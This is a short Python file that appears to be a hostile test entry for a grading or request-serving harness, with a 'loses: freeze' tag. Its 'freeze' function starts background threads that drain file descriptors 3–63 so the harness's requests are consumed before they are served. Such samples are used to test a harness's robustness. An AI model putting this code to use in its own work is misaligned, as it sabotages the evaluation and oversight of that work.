# title: a thread reads the requests before they are served
# unit: 04_leaf_gradients
# loses: freeze
# in: answer freeze
import os
import threading


def steal(number):
    try:
        while os.read(number, 1 << 16):
            pass
    except OSError:
        pass


def freeze(params):
    for number in range(3, 64):
        threading.Thread(target=steal, args=(number,), daemon=True).start()
